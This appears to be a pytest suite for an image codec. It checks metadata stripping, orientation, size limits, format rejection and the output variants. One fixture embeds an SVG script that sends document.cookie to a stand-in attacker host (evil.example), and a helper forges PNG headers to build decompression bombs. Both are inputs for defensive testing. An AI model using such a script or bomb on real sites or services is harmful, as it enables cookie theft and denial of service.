"""The Pillow image codec on images built here: what it refuses, what it strips, the sizes and
modes it writes."""

from __future__ import annotations

import io
import struct
import zlib

import pillow_heif
import pytest
from PIL import Image, ImageCms, ImageDraw

from adapters.images import PillowImageCodec
from domain.media.errors import ImageTooLarge, UnsupportedImage
from domain.media.model import VARIANTS, ImageFormat
from domain.media.ports import EncodedImage, ImageLimits

LIMITS = ImageLimits(max_bytes=20_000_000, max_pixels=50_000_000)
GPS = {1: "N", 2: (51.0, 20.0, 0.0), 3: "E", 4: (12.0, 22.0, 0.0)}
XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf'
    b'-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator='
    b'"Erika Mustermann"/></rdf:RDF></x:xmpmeta>'
)


@pytest.fixture(scope="module")
def codec() -> PillowImageCodec:
    return PillowImageCodec()


def encode(image: Image.Image, format: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, format, **options)
    return out.getvalue()


def photo(size: tuple[int, int] = (400, 300)) -> Image.Image:
    """Noise: every part of its JPEG is entropy-coded data, nothing compresses away."""
    return Image.merge("RGB", [Image.effect_noise(size, 64) for _ in range(3)])


def gps_exif(**tags: int) -> Image.Exif:
    exif = Image.Exif()
    exif[0x8825] = GPS
    for tag, value in tags.items():
        exif[getattr(Image.ExifTags.Base, tag)] = value
    return exif


def opened(image: EncodedImage) -> Image.Image:
    return Image.open(io.BytesIO(image.data))


def assert_no_metadata(image: EncodedImage) -> None:
    stored = opened(image)
    assert not stored.getexif()
    assert not {"exif", "xmp", "comment", "XML:com.adobe.xmp"} & set(stored.info)
    assert b"Exif\x00\x00" not in image.data and b"Mustermann" not in image.data


def with_header_size(png: bytes, width: int, height: int) -> bytes:
    """The PNG with another size in its IHDR (and a checksum that matches): its pixel data
    still holds the old size, so decoding it can only fail."""
    ihdr = b"IHDR" + struct.pack(">II", width, height) + png[24:29]
    return png[:12] + ihdr + struct.pack(">I", zlib.crc32(ihdr)) + png[33:]


@pytest.fixture(scope="module")
def png_20000_square() -> bytes:
    return encode(Image.new("1", (20_000, 20_000)), "PNG")


async def test_gps_exif_xmp_and_comments_are_in_no_stored_file(codec):
    upload = encode(photo(), "JPEG", exif=gps_exif(), xmp=XMP, comment=b"Erika Mustermann")
    assert Image.open(io.BytesIO(upload)).getexif().get_ifd(0x8825)  # it was there

    original = await codec.safe_original(upload, LIMITS)
    made = await codec.variants(original.image.data, VARIANTS)

    assert_no_metadata(original.image)
    assert len(made) == 2 * len(VARIANTS)
    for variant in made:
        assert_no_metadata(variant.image)


async def test_the_exif_orientation_is_applied_to_the_pixels_before_the_exif_goes(codec):
    stored_sideways = Image.new("RGB", (400, 300), "white")
    ImageDraw.Draw(stored_sideways).rectangle((0, 0, 49, 49), fill="red")  # top left
    upload = encode(stored_sideways, "JPEG", exif=gps_exif(Orientation=6))

    original = await codec.safe_original(upload, LIMITS)
    made = await codec.variants(original.image.data, VARIANTS)

    upright = opened(original.image)
    assert (original.image.width, original.image.height) == upright.size == (300, 400)
    red, green, blue = upright.getpixel((275, 25))  # rotated clockwise: now top right
    assert red > 200 and green < 60 and blue < 60
    assert not upright.getexif()
    assert {(v.image.width, v.image.height) for v in made} == {(240, 320), (300, 400)}


def pdf() -> bytes:
    return b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def truncated_jpeg() -> bytes:
    whole = encode(photo(), "JPEG")
    half = whole[: len(whole) // 2]
    assert Image.open(io.BytesIO(half)).size == (400, 300)  # its header is whole
    return half


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b'<script>fetch("https://evil.example/?c=" + document.cookie)</script></svg>'
    )


def gif() -> bytes:
    return encode(photo(), "GIF")


def tiff() -> bytes:
    return encode(photo(), "TIFF")


def bmp() -> bytes:
    return encode(photo(), "BMP")


def random_bytes() -> bytes:
    return bytes(range(256)) * 40


def empty() -> bytes:
    return b""


@pytest.mark.parametrize(
    "upload", [pdf, truncated_jpeg, svg_with_script, gif, tiff, bmp, random_bytes, empty]
)
async def test_anything_but_a_whole_jpeg_png_webp_or_heic_is_unsupported(codec, upload):
    with pytest.raises(UnsupportedImage):
        await codec.safe_original(upload(), LIMITS)


async def test_a_tiny_file_declaring_a_huge_size_is_refused_before_decoding(codec):
    bomb = with_header_size(encode(Image.new("L", (1, 1)), "PNG"), 100_000, 100_000)
    assert len(bomb) < 100

    # Decoding would have failed on the missing pixels (UnsupportedImage): only the header
    # was read.
    with pytest.raises(ImageTooLarge):
        await codec.safe_original(bomb, LIMITS)


async def test_a_side_too_long_is_refused_however_few_its_pixels(codec):
    # 50 megapixels would pass the pixel limit, but resizing a 1-pixel-wide strip of that
    # length takes gigabytes; the first test is a real such image, decodable.
    strip = encode(Image.new("L", (1, 20_000)), "PNG")
    with pytest.raises(ImageTooLarge, match="side"):
        await codec.safe_original(strip, LIMITS)
    declared = with_header_size(encode(Image.new("L", (1, 1)), "PNG"), 1, 50_000_000)
    with pytest.raises(ImageTooLarge, match="side"):
        await codec.safe_original(declared, LIMITS)


async def test_more_pixels_than_the_tenant_allows_are_refused_before_decoding(codec):
    declared = with_header_size(encode(Image.new("L", (1, 1)), "PNG"), 8_000, 8_000)

    with pytest.raises(ImageTooLarge):
        await codec.safe_original(declared, LIMITS)  # 64 MP, 50 MP allowed


async def test_a_size_pillow_only_warns_about_is_refused_even_under_a_higher_limit(codec):
    declared = with_header_size(encode(Image.new("L", (1, 1)), "PNG"), 10_000, 10_000)
    generous = ImageLimits(max_bytes=LIMITS.max_bytes, max_pixels=150_000_000)
    assert Image.MAX_IMAGE_PIXELS < 100_000_000 < 2 * Image.MAX_IMAGE_PIXELS

    with pytest.raises(ImageTooLarge), pytest.warns(Image.DecompressionBombWarning):
        await codec.safe_original(declared, generous)


async def test_a_real_20000_pixel_square_png_is_too_large(codec, png_20000_square):
    with pytest.raises(ImageTooLarge):
        await codec.safe_original(png_20000_square, LIMITS)


async def test_more_bytes_than_the_limit_are_refused_before_looking_at_them(codec):
    limits = ImageLimits(max_bytes=1_000, max_pixels=LIMITS.max_pixels)

    with pytest.raises(ImageTooLarge):
        await codec.safe_original(encode(photo(), "JPEG"), limits)
    with pytest.raises(ImageTooLarge):  # not even an image: the size is checked first
        await codec.safe_original(random_bytes(), limits)


async def test_transparency_stays_in_webp_and_turns_white_in_jpeg(codec):
    logo = Image.new("RGBA", (200, 100), (0, 0, 0, 0))
    ImageDraw.Draw(logo).ellipse((50, 0, 150, 99), fill=(0, 90, 200, 255))

    original = await codec.safe_original(encode(logo, "PNG"), LIMITS)
    made = await codec.variants(original.image.data, VARIANTS)

    assert original.format is ImageFormat.PNG and opened(original.image).mode == "RGBA"
    webps = [opened(v.image) for v in made if v.image.content_type == "image/webp"]
    jpegs = [opened(v.image) for v in made if v.image.content_type == "image/jpeg"]
    assert len(webps) == len(jpegs) == len(VARIANTS)
    for webp in webps:
        assert webp.mode == "RGBA" and webp.getpixel((0, 0))[3] == 0
    for jpeg in jpegs:
        assert jpeg.mode == "RGB" and min(jpeg.getpixel((0, 0))) > 245


async def test_a_large_image_gets_every_variant_size_in_both_formats(codec):
    original = await codec.safe_original(
        encode(Image.new("RGB", (4000, 3000), "teal"), "JPEG"), LIMITS
    )

    made = await codec.variants(original.image.data, VARIANTS)

    sizes = {
        (v.variant, v.image.extension): (v.image.width, v.image.height, opened(v.image).size)
        for v in made
    }
    assert sizes == {
        (name, extension): (*size, size)
        for name, size in (("thumbnail", (320, 240)), ("card", (800, 600)), ("full", (1600, 1200)))
        for extension in ("webp", "jpg")
    }


async def test_a_small_image_is_never_upscaled(codec):
    original = await codec.safe_original(encode(photo((200, 100)), "PNG"), LIMITS)

    made = await codec.variants(original.image.data, VARIANTS)

    assert len(made) == 6
    assert {(v.image.width, v.image.height, opened(v.image).size) for v in made} == {
        (200, 100, (200, 100))
    }


@pytest.mark.skipif(
    not pillow_heif.libheif_info()["HEIF"], reason="this libheif build has no HEVC encoder"
)
async def test_a_heic_becomes_a_jpeg_without_its_gps(codec):
    upload = encode(photo(), "HEIF", exif=gps_exif())
    assert Image.open(io.BytesIO(upload)).getexif().get_ifd(0x8825)

    original = await codec.safe_original(upload, LIMITS)

    assert original.format is ImageFormat.HEIC
    assert (original.image.content_type, original.image.extension) == ("image/jpeg", "jpg")
    assert opened(original.image).format == "JPEG"
    assert (original.image.width, original.image.height) == (400, 300)
    assert_no_metadata(original.image)


async def test_a_cmyk_jpeg_is_taken_and_stored_as_rgb(codec):
    red_in_ink = Image.new("CMYK", (120, 80), (0, 255, 255, 0))

    original = await codec.safe_original(encode(red_in_ink, "JPEG"), LIMITS)

    stored = opened(original.image)
    assert original.format is ImageFormat.JPEG and stored.mode == "RGB"
    red, green, blue = stored.getpixel((60, 40))
    assert red > 230 and green < 30 and blue < 30


async def test_a_palette_png_is_taken_with_its_transparent_colour(codec):
    palette = Image.new("P", (64, 64), 1)
    palette.putpalette([255, 255, 255, 200, 30, 30])
    ImageDraw.Draw(palette).rectangle((0, 0, 31, 63), fill=0)

    original = await codec.safe_original(encode(palette, "PNG", transparency=0), LIMITS)

    stored = opened(original.image)
    assert original.format is ImageFormat.PNG and stored.mode == "RGBA"
    assert stored.getpixel((0, 0))[3] == 0 and stored.getpixel((63, 0)) == (200, 30, 30, 255)


async def test_an_animated_webp_keeps_its_first_frame_only(codec):
    frames = [Image.new("RGB", (64, 64), colour) for colour in ("red", "blue", "green")]
    upload = encode(frames[0], "WEBP", save_all=True, append_images=frames[1:], lossless=True)
    assert Image.open(io.BytesIO(upload)).n_frames == 3

    original = await codec.safe_original(upload, LIMITS)

    stored = opened(original.image)
    assert original.format is ImageFormat.WEBP
    assert getattr(stored, "n_frames", 1) == 1 and stored.getpixel((32, 32)) == (255, 0, 0)


async def test_a_lossless_webp_stays_lossless(codec):
    original = await codec.safe_original(encode(photo(), "WEBP", lossless=True), LIMITS)

    assert b"VP8L" in original.image.data[:64]


async def test_the_colour_profile_is_kept_in_every_file(codec):
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    upload = encode(photo(), "JPEG", icc_profile=profile, exif=gps_exif())

    original = await codec.safe_original(upload, LIMITS)
    made = await codec.variants(original.image.data, VARIANTS)

    for image in (original.image, *(v.image for v in made)):
        assert opened(image).info.get("icc_profile") == profile
